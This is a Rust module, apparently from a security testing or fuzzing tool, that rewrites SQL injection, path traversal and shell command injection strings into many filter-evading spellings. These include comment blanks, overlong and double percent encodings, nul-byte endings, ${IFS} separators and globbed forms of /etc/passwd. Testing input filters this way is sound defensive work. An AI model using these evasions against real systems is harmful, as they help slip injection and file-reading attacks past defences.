//! The same attack in every way an interpreter reads alike: other blanks, comments, letter case, encodings.
//! Exports `sql`, `path` and `shell`; each gives a name for the way beside the text.

/// One way to write a text, with its name.
pub type Rewritten = (&'static str, String);

/// What databases read as a blank: comments, control characters, blanks of other alphabets.
const BLANKS: [(&str, &str); 24] = [
    ("tab", "\t"),
    ("line", "\n"),
    ("return", "\r"),
    ("vertical tab", "\x0b"),
    ("form feed", "\x0c"),
    ("control 1", "\x01"),
    ("control 31", "\x1f"),
    ("no-break", "\u{a0}"),
    ("en quad", "\u{2000}"),
    ("ideographic", "\u{3000}"),
    ("two", "  "),
    ("comment", "/**/"),
    ("comment with text", "/*x*/"),
    ("comment over lines", "/*\n*/"),
    ("two comments", "/*a*//*b*/"),
    ("comment in blanks", " /**/ "),
    ("version comment", "/*!*/"),
    ("dashes", "--a\n"),
    ("dashes and return", "--a\r\n"),
    ("dashes in blanks", " --a\n "),
    ("dashes with words", "-- a b\n"),
    ("hash", "#a\n"),
    ("hash alone", "#\n"),
    ("plus", "+"),
];
const KEYWORDS: [&str; 9] = [
    "union", "select", "or", "and", "from", "where", "drop", "order", "group",
];

/// Other spellings of a query.
pub fn sql(attack: &str) -> Vec<Rewritten> {
    let mut all: Vec<Rewritten> = BLANKS
        .iter()
        .map(|(name, blank)| (*name, attack.replace(' ', blank)))
        .collect();
    let mixed = attack.char_indices().map(|(at, letter)| match at % 2 {
        0 => letter.to_ascii_uppercase(),
        _ => letter,
    });
    all.push(("upper case", attack.to_uppercase()));
    all.push(("mixed case", mixed.collect()));
    all.push(("percent", percent(attack)));
    all.push(("percent vertical tab", attack.replace(' ', "%0b")));
    all.push(("percent no-break", attack.replace(' ', "%a0")));
    all.push(("percent twice", attack.replace(' ', "%2520")));
    all.push(("escaped", attack.replace(' ', "\\u000b")));
    let words = attack.split(' ').map(|word| {
        if KEYWORDS.contains(&word) {
            format!("/*!50000{word}*/")
        } else {
            word.to_owned()
        }
    });
    all.push(("version comments", words.collect::<Vec<_>>().join(" ")));
    all.push(("brackets", in_brackets(attack)));
    all
}

/// `union select a,b` as `union(select(a),(b))`.
fn in_brackets(attack: &str) -> String {
    let Some((before, columns)) = attack.split_once("select ") else {
        return attack.to_owned();
    };
    let is_list = |byte: u8| byte.is_ascii_alphanumeric() || b",@_".contains(&byte);
    if !before.ends_with("union ") || !columns.bytes().all(is_list) {
        return attack.to_owned();
    }
    let columns: Vec<String> = columns.split(',').map(|one| format!("({one})")).collect();
    format!("{}(select{})", before.trim_end(), columns.join(","))
}

/// Steps as decoders, servers and file systems take them: two dots and a slash.
const STEPS: [(&str, &str, &str); 26] = [
    ("percent", "%2e%2e", "%2f"),
    ("percent dots", "%2e%2e", "/"),
    ("percent slash", "..", "%2f"),
    ("one percent dot", ".%2e", "/"),
    ("percent in capitals", "%2E.", "%2F"),
    ("percent twice", "%252e%252e", "%252f"),
    ("percent three times", "%25252e%25252e", "%25252f"),
    ("backslash", "..", "\\"),
    ("percent backslash", "..", "%5c"),
    ("percent backslash twice", "..", "%255c"),
    ("overlong slash", "..", "%c0%af"),
    ("overlong dots", "%c0%ae%c0%ae", "/"),
    ("overlong all", "%c0%ae%c0%ae", "%c0%af"),
    ("overlong of three", "..", "%e0%80%af"),
    ("overlong of four", "..", "%f0%80%80%af"),
    ("percent u", "..", "%u2215"),
    ("percent u all", "%u002e%u002e", "%u002f"),
    ("with itself", "..", "/./"),
    ("doubled", "....", "//"),
    ("parameter", "..;", "/"),
    ("parameter with value", "..;x=1", "/"),
    ("full width", "\u{ff0e}\u{ff0e}", "\u{ff0f}"),
    ("references", "&#46;&#46;", "&#x2f;"),
    ("escaped", "\\u002e\\u002e", "\\x2f"),
    ("nul", "..\0", "/"),
    ("percent nul", "..%00", "/"),
];

/// Other spellings of a path that begins with steps.
pub fn path(attack: &str) -> Vec<Rewritten> {
    let step = |(name, dots, slash): &(&'static str, &str, &str)| {
        (*name, attack.replace("../", &format!("{dots}{slash}")))
    };
    let mut all: Vec<Rewritten> = STEPS.iter().map(step).collect();
    let below = attack.trim_start_matches("../");
    all.push(("address", format!("file:///{below}")));
    all.push(("ending", format!("{attack}\0.png")));
    all.push(("percent ending", format!("{attack}%00.png")));
    all
}

/// Other spellings of the file itself, from the root on.
pub fn file(path: &str) -> Vec<Rewritten> {
    vec![
        ("as it is", path.to_owned()),
        ("slashes", path.replace('/', "//")),
        ("dots", path.replace('/', "/./")),
        ("address", format!("file://{path}")),
        ("upper case", path.to_uppercase()),
        ("percent", percent(path)),
    ]
}

const SHELL_BLANKS: [(&str, &str); 6] = [
    ("field separator", "${IFS}"),
    ("field separator and nothing", "$IFS$9"),
    ("cut field separator", "${IFS%?}"),
    ("first of the field separators", "${IFS:0:1}"),
    ("tab", "\t"),
    ("tabs", "\t\t"),
];

/// Other spellings of `; command argument`: a mark, a command and what it gets.
pub fn shell(mark: &str, command: &str, argument: &str) -> Vec<Rewritten> {
    let mut all: Vec<Rewritten> = SHELL_BLANKS
        .iter()
        .map(|(name, blank)| {
            let argument = argument.replace(' ', blank);
            (*name, format!("{mark}{command}{blank}{argument}"))
        })
        .collect();
    let plain = format!("{mark}{command} {argument}");
    all.push(("plus", plain.replace(' ', "+")));
    if !argument.contains(' ') {
        all.push(("braces", format!("{mark}{{{command},{argument}}}")));
    }
    let (first, rest) = command.split_at(1);
    for (name, nothing) in [
        ("quotes", "''"),
        ("double quotes", "\"\""),
        ("backslash", "\\"),
        ("all arguments", "$@"),
        ("unset variable", "${u}"),
        ("unset argument", "$9"),
        ("empty substitution", "$()"),
        ("empty backticks", "``"),
    ] {
        all.push((name, format!("{mark}{first}{nothing}{rest} {argument}")));
    }
    all.push(("quoted", format!("{mark}'{command}' {argument}")));
    all.push(("whole path", format!("{mark}/usr/bin/{command} {argument}")));
    all.push(("question marks", format!("{mark}/???/{command} {argument}")));
    all.push(("brackets", format!("{mark}/bi[n]/{command} {argument}")));
    all.push(("percent", percent(&plain)));
    for (name, file) in [
        ("a question mark", "/etc/pass?d"),
        ("stars", "/e*c/p*d"),
        ("a bracket", "/etc/pas[s]wd"),
        ("a bracket in the folder", "/[e]tc/passwd"),
        ("a quoted piece", "/e'tc'/pa'ss'wd"),
        ("backslashes", "/e\\tc/pass\\wd"),
        ("a dot", "/etc/./passwd"),
        ("a step", "/etc/../etc/passwd"),
    ] {
        if argument.contains("/etc/passwd") {
            let argument = argument.replace("/etc/passwd", file);
            all.push((name, format!("{mark}{command} {argument}")));
        }
    }
    all
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}
